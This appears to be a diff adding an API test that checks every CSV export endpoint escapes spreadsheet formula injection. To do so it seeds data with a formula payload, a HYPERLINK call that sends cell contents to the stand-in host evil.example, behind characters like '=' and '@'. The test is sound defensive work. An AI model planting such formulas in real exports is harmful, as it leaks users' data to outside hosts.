@@ -1,0 +1,86 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import request from 'supertest';
+import { administrator } from '../support/administrator';
+import { freshDatabase, type TestDatabase } from '../support/database';
+import { startServer, type TestServer } from '../support/server';
+
+jest.setTimeout(60_000);
+
+const demonstration = readFileSync(join(__dirname, '..', '..', 'demo', 'partnership.json'), 'utf8');
+const texts = [
+  ...['title', 'name', 'task', 'quotation', 'label', 'statement', 'summary', 'deputyName'],
+  ...['description', 'place', 'note', 'cancelReason', 'reason', 'answer', 'explanation', 'interest'],
+];
+/** What a spreadsheet takes for the beginning of a formula. */
+const beginnings = ['=', '+', '-', '@', '\t', '\r'];
+const payload = `HYPERLINK("http://evil.example/?"&A1) `;
+
+let database: TestDatabase;
+let server: TestServer;
+
+beforeAll(async () => {
+  database = await freshDatabase();
+  server = await startServer({ databaseUrl: database.url });
+  let turn = 0;
+  const armed: unknown = JSON.parse(demonstration, (key, value: unknown) =>
+    typeof value === 'string' && texts.includes(key)
+      ? `${beginnings[(turn += 1) % 4] ?? ''}${payload}${value}`.slice(0, 300)
+      : value,
+  );
+  const { status, text } = await request(server.url)
+    .post('/api/v1/partnership/import')
+    .set(administrator)
+    .send(armed as object);
+  if (status !== 200) throw new Error(text);
+});
+
+afterAll(async () => {
+  await database.drop();
+});
+
+/** The cells of CSV, without the quotes around them. */
+function cells(csv: string): string[] {
+  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(([, quoted, bare]) =>
+    (quoted ?? bare ?? '').replaceAll('""', '"'),
+  );
+}
+
+/** The first of what a collection holds. */
+async function firstOf(collection: string): Promise<string> {
+  const { body } = await request(server.url).get(`/api/v1/${collection}?limit=1`).set(administrator);
+  return (body as { items: { id: string }[] }).items[0]?.id ?? '';
+}
+
+describe('A list as CSV', () => {
+  it('has no cell that a spreadsheet would run, whatever people wrote, in any list there is', async () => {
+    const { body } = await request(server.url).get('/api/v1/openapi.json');
+    const paths = body.paths as Record<string, { get?: { responses: object } }>;
+    const lists = Object.keys(paths).filter((path) =>
+      JSON.stringify(paths[path]?.get?.responses ?? {}).includes('text/csv'),
+    );
+    const unguarded: string[] = [];
+    const guarded = new Set<string>();
+    for (const list of lists) {
+      const [, , , collection = ''] = list.split('/');
+      const path = list.includes('{id}') ? list.replace('{id}', await firstOf(collection)) : list;
+      const groups = list.includes('agenda-alignment')
+        ? `?group=${await firstOf('groups')}&with=${await firstOf('groups')}`
+        : '';
+      const { status, text } = await request(server.url)
+        .get(`${path}${groups}`)
+        .set({ ...administrator, Accept: 'text/csv' });
+      // What some lists need to be told, such as one thing of which to show the history, is no matter of cells.
+      if (status === 422) continue;
+      expect([list, status]).toEqual([list, 200]);
+      for (const cell of cells(text)) {
+        if (cell.startsWith(`'`) && cell.includes('HYPERLINK')) guarded.add(list);
+        if (beginnings.some((beginning) => cell.startsWith(beginning)) && Number.isNaN(Number(cell)))
+          unguarded.push(`${list}: ${cell}`);
+      }
+    }
+    expect(unguarded).toEqual([]);
+    expect(lists.length).toBeGreaterThan(40);
+    expect(guarded.size).toBeGreaterThan(25);
+  });
+});
